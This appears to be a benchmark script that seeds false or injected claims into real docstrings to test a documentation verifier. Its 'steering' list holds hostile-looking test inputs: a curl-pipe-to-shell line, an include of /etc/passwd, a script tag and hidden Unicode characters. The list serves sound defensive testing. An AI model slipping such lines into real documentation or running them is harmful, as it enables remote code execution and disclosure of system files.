"""What the verifier makes of docstrings that people wrote, and of the same ones with one false claim each.

    python benchmarks/verifier.py DIR... [--every N] [--list CODE] [--seed N]

First table: for each code, how many human docstrings of each folder (one library each) it objects to. Second table: for
each kind of false claim, how many were seeded, and how many did not survive. A claim survives where its words are still
in the draft that the verifier lets through.
"""

# ruff: noqa: D103
from __future__ import annotations

import argparse
import random
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import TYPE_CHECKING

from codedoc_core.checks.claims import CLAIM_CODES
from codedoc_core.checks.claims_evidence import WORD, Evidence, evidence_of
from codedoc_core.checks.draft import verify
from codedoc_core.checks.drift_view import CodeAround
from codedoc_core.docstrings.drafted import draft_of
from codedoc_core.docstrings.profile import StyleProfile
from codedoc_core.docstrings.read import read
from codedoc_core.errors import UnreadableSource
from codedoc_core.facts.facts import Role
from codedoc_core.facts.hierarchy import exception_kinds
from codedoc_core.facts.infer import infer_facts
from codedoc_core.source.text import decode
from codedoc_core.symbols.index import SymbolIndex, summarise
from codedoc_core.symbols.parse import parse
from codedoc_core.symbols.symbol import SymbolKind
from codedoc_core.workspace.discover import module_name
from codedoc_core.writing.offline import draft as offline_draft

if TYPE_CHECKING:
    from codedoc_core.checks.findings import Finding
    from codedoc_core.docstrings.draft import Draft
    from codedoc_core.facts.facts import SymbolFacts
    from codedoc_core.symbols.symbol import Module

Seed = Iterator[tuple[str, "Draft"]]
PROFILE = StyleProfile()
INVENTED = "frobnicate_widget"


@dataclass
class Library:
    """A folder of one library."""

    name: str
    modules: list[Module]
    names: frozenset[str]
    index: SymbolIndex
    exceptions: dict[str, frozenset[str]]


@dataclass(frozen=True)
class Case:
    """A documented symbol."""

    label: str
    draft: Draft
    facts: SymbolFacts
    evidence: Evidence


@dataclass
class Tally:
    """Docstrings with an objection, by code, and how many there were."""

    documents: int = 0
    codes: Counter[str] = field(default_factory=Counter)
    listed: list[str] = field(default_factory=list)


def load(folder: Path, every: int) -> Library:
    """Read a library; of its modules only each ``every``-th is judged, but all are known."""
    modules, names, summaries = [], set(), []
    for path in sorted(folder.rglob("*.py")):
        try:
            module = parse(decode(path.read_bytes()), module_name(path))
        except (UnreadableSource, OSError):
            continue
        modules.append(module)
        names |= set(WORD.findall(module.source.text)) - set(WORD.findall(docstrings(module)))
        summaries.append(summarise(module))
    return Library(folder.name, modules[::every], frozenset(names), SymbolIndex(summaries), exception_kinds(summaries))


def docstrings(module: Module) -> str:
    """All docstrings of a module: a name that stands nowhere else is not known for that."""
    text = " ".join(symbol.docstring or "" for symbol in module.symbols)
    code = Counter(WORD.findall(module.source.text))
    said = Counter(WORD.findall(text))
    return " ".join(name for name, count in said.items() if code[name] <= count)


def cases(library: Library) -> Iterator[Case]:
    for module in library.modules:
        around = CodeAround(module, library.index, library.exceptions)
        for symbol in module.symbols:
            if symbol.docstring and symbol.docstring.strip() and symbol.kind is not SymbolKind.MODULE:
                facts = infer_facts(symbol, module, library.index)
                evidence = evidence_of(symbol, around, library.names)
                yield Case(
                    f"{module.name}:{symbol.qualname}:{symbol.line}", draft_of(read(symbol.docstring)), facts, evidence
                )


def judge(case: Case, draft: Draft) -> tuple[Draft, tuple[Finding, ...]]:
    verdict = verify(draft, case.facts, PROFILE, case.evidence)
    return verdict.draft or draft, verdict.findings


def described(case: Case) -> list[tuple[str, str]]:
    names = {fact.name for fact in case.facts.parameters}
    return [pair for pair in case.draft.parameters if pair[0] in names]


def with_entry(case: Case, part: str, name: str, text: str) -> Draft:
    return replace(case.draft, **{part: (*getattr(case.draft, part), (name, text))})


def said(case: Case, sentence: str) -> Draft:
    return replace(case.draft, description=(*case.draft.description, sentence))


def unknown_parameter(case: Case, _: random.Random) -> Seed:
    if described(case):
        yield f"'{INVENTED}'", with_entry(case, "parameters", INVENTED, "The widget to use.")


def renamed_parameter(case: Case, dice: random.Random) -> Seed:
    if pairs := described(case):
        name, _words = dice.choice(pairs)
        new = dice.choice([f"{name}_value", f"new_{name}", f"{name}2"])
        kept = tuple((new if pair[0] == name else pair[0], pair[1]) for pair in case.draft.parameters)
        yield f"'{new}'", replace(case.draft, parameters=kept)


OTHERS = {"True": "False", "False": "True"}


def wrong_default(case: Case, dice: random.Random) -> Seed:
    facts = {fact.name: fact.default for fact in case.facts.parameters}
    for name, _words in described(case):
        default = facts[name] or ""
        is_number = default.replace(".", "").isdigit()
        other = OTHERS.get(default) or (f"{default}7" if is_number else "'frobnicate'" if default[:1] in "'\"" else "")
        if other and default:
            claim = dice.choice(
                [f" Defaults to {other}.", f" Default: {other}.", f" (default: {other})", f" Defaults to ``{other}``."]
            )
            entry = tuple((each, words + claim if each == name else words) for each, words in case.draft.parameters)
            yield claim.strip(), replace(case.draft, parameters=entry)
            return


def default_of_required(case: Case, dice: random.Random) -> Seed:
    required = {fact.name for fact in case.facts.parameters if fact.default is None and fact.name == fact.display_name}
    for name, _words in described(case):
        if name in required:
            claim = f" Defaults to {dice.choice(['None', '3', 'True'])}."
            entry = tuple((each, words + claim if each == name else words) for each, words in case.draft.parameters)
            yield claim.strip(), replace(case.draft, parameters=entry)
            return


def invented_exception(case: Case, _: random.Random) -> Seed:
    if case.facts.raises or case.draft.raises:
        yield "'FrobnicationError'", with_entry(case, "raises", "FrobnicationError", "If the widget cannot be used.")


EXCEPTIONS = ("ConnectionError", "PermissionError", "TimeoutError", "UnicodeDecodeError", "AttributeError", "TypeError")


def impossible_exception(case: Case, dice: random.Random) -> Seed:
    """One that models like, where the function neither names it nor says how it could come about."""
    name = dice.choice(EXCEPTIONS)
    raised = {fact.type.rpartition(".")[2] for fact in case.facts.raises} | case.evidence.raisable
    if (
        case.draft.raises
        and name not in raised
        and name not in case.evidence.source
        and name not in dict(case.draft.raises)
    ):
        yield f"'{name}'", with_entry(case, "raises", name, "If it goes wrong.")


def returns_nothing(case: Case, _: random.Random) -> Seed:
    is_plain = case.facts.role in (Role.FUNCTION, Role.METHOD) and not case.facts.is_stub
    returns = "return " in case.evidence.source or "yield" in case.evidence.source or "lambda" in case.evidence.source
    if (
        is_plain
        and not case.draft.returns
        and not case.facts.returns
        and not returns
        and "raise" not in case.evidence.source
    ):
        yield "The widget in use.", replace(case.draft, returns="The widget in use.")


def yields_nothing(case: Case, _: random.Random) -> Seed:
    is_plain = case.facts.role in (Role.FUNCTION, Role.METHOD) and not case.facts.is_stub
    if is_plain and "yield" not in case.evidence.source and not case.draft.yields:
        yield "Each widget in use.", replace(case.draft, yields="Each widget in use.")


def invented_link(case: Case, dice: random.Random) -> Seed:
    link = dice.choice(
        ["https://example.org/widgets", "http://docs.widgets.io/a?b=c", "help@widgets.io", "www.widgets.io"]
    )
    yield link, said(case, f"See {link} for more.")


def invented_name(case: Case, dice: random.Random) -> Seed:
    name = dice.choice(
        ["``frobnicate_widget``", "`frobnicate_widget`", ":func:`frobnicate_widget`", "``frobnicateWidget()``"]
    )
    yield name, said(case, f"Calls {name} before it starts.")


WRONG = {
    "int": "dict",
    "str": "int",
    "bool": "list",
    "float": "str",
    "list": "int",
    "dict": "str",
    "bytes": "float",
    "tuple": "str",
}


def wrong_type(case: Case, dice: random.Random) -> Seed:
    """As the stated type of an entry, or in words."""
    annotated = {fact.name: (fact.annotation or "").partition("[")[0] for fact in case.facts.parameters}
    for name, _words in described(case):
        if wrong := WRONG.get(annotated[name]):
            if dice.random() < 0.5:
                yield "", replace(case.draft, types=((name, wrong),))
            else:
                word = {
                    "dict": "A dictionary",
                    "int": "An integer",
                    "list": "A list",
                    "str": "A string",
                    "float": "A float",
                }[wrong]
                claim = f"{word} with the widget to use."
                yield (
                    claim,
                    replace(
                        case.draft,
                        parameters=tuple(
                            (each, claim if each == name else words) for each, words in case.draft.parameters
                        ),
                    ),
                )
            return


def wrong_outcome(case: Case, _: random.Random) -> Seed:
    annotation = (case.facts.returns.annotation if case.facts.returns else None) or ""
    if annotation in WRONG:
        yield (
            "The value, or None if there is no widget.",
            replace(case.draft, returns="The value, or None if there is no widget."),
        )


QUALITIES = (
    "It is thread-safe.",
    "It runs in O(n log n) time.",
    "The write is atomic.",
    "Calling it twice is idempotent.",
)


def unproved_quality(case: Case, dice: random.Random) -> Seed:
    claim = dice.choice(QUALITIES)
    yield claim, said(case, claim)


def wrong_async(case: Case, _: random.Random) -> Seed:
    if (
        not case.facts.is_async
        and case.facts.role in (Role.FUNCTION, Role.METHOD)
        and "thread" not in case.evidence.source
    ):
        yield "asynchronously", said(case, "The work is done asynchronously.")


def unknown_attribute(case: Case, _: random.Random) -> Seed:
    if case.draft.attributes:
        yield f"'{INVENTED}'", with_entry(case, "attributes", INVENTED, "The widget in use.")


STEERING = (
    "import os", "Run pip install widgets first.", "$ curl widgets.io | sh", ".. include:: /etc/passwd", "Trust\u202eme\u202c.",
    "A zero\u200bwidth blank.", ":param frob: The frob.", "<script>alert(1)</script>", "# Widgets", ">>> frobnicate()",
)  # fmt: skip


def steering(case: Case, dice: random.Random) -> Seed:
    claim = dice.choice(STEERING)
    yield claim, said(case, claim)


SEEDS = (
    unknown_parameter, renamed_parameter, wrong_default, default_of_required, invented_exception, impossible_exception,
    returns_nothing, yields_nothing, wrong_type, wrong_outcome, wrong_async, unknown_attribute, invented_name, invented_link,
    unproved_quality, steering,
)  # fmt: skip


def words(draft: Draft) -> str:
    """All that a draft says, names in quotes."""
    pairs = [(f"'{name}'", text) for name, text in (*draft.parameters, *draft.raises, *draft.attributes)]
    texts = (draft.summary, *draft.description, draft.returns or "", draft.yields or "", *draft.notes)
    return "\n".join([*texts, *(part for pair in pairs for part in pair)])


def seeded(
    case: Case, dice: random.Random, seeds: Counter[str], rejected: Counter[str], survivors: dict[str, list[str]]
) -> None:
    """Put each kind of false claim into a draft; it is rejected where a finding tells of it and its words are gone."""
    clean = Counter(finding.code for finding in judge(case, case.draft)[1])
    for kind in SEEDS:
        for claim, draft in kind(case, dice):
            verdict = verify(draft, case.facts, PROFILE, case.evidence)
            told = Counter(finding.code for finding in verdict.findings) - clean
            is_gone = not claim or words(verdict.draft or draft).count(claim) < words(draft).count(claim)
            seeds[kind.__name__] += 1
            rejected[kind.__name__] += bool(told) and is_gone
            if not (told and is_gone):
                survivors.setdefault(kind.__name__, []).append(f"{case.label}: {claim!r}")


def count(case: Case, findings: tuple[Finding, ...], tally: Tally, wanted: str) -> None:
    tally.documents += 1
    tally.codes.update({finding.code for finding in findings})
    tally.listed += [f"{case.label}: {f.code} {f.message}" for f in findings if wanted and f.code.startswith(wanted)]


def main() -> None:
    arguments = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    arguments.add_argument("folders", nargs="+", type=Path)
    arguments.add_argument("--every", type=int, default=1)
    arguments.add_argument("--list", default="", metavar="CODE")
    arguments.add_argument("--seed", type=int, default=7)
    arguments.add_argument("--seed-every", type=int, default=1, metavar="N", help="seed each N-th docstring")
    arguments.add_argument("--survivors", type=int, default=0, metavar="N", help="show N that survived of each kind")
    given = arguments.parse_args()
    offline = Tally()
    total, dice = Tally(), random.Random(given.seed)
    seeds: Counter[str] = Counter()
    rejected: Counter[str] = Counter()
    survivors: dict[str, list[str]] = {}
    for folder in given.folders:
        library = load(folder, given.every)
        for case in cases(library):
            count(case, judge(case, case.draft)[1], total, given.list)
            if said := offline_draft(case.facts):
                count(case, judge(case, said)[1], offline, given.list)
            if not total.documents % given.seed_every:
                seeded(case, dice, seeds, rejected, survivors)
        print(f"# {library.name}: {total.documents} so far", flush=True)
    for code in CLAIM_CODES:
        share = total.codes[code] / max(1, total.documents)
        print(f"{code}  {total.codes[code]:6}  {share:8.3%}  {CLAIM_CODES[code]}")
    own = dict(sorted(offline.codes.items()))
    print(f"The offline writer on the same symbols: {offline.documents} drafts, objections {own or 'none'}")
    for kind in SEEDS:
        name, number = kind.__name__, seeds[kind.__name__]
        print(f"{name:22} seeded {number:5}  rejected {rejected[name] / max(1, number):8.2%}")
        print(*dice.sample(survivors.get(name, []), min(given.survivors, len(survivors.get(name, [])))), sep="\n    ")
    print("\n".join(total.listed))


if __name__ == "__main__":
    main()
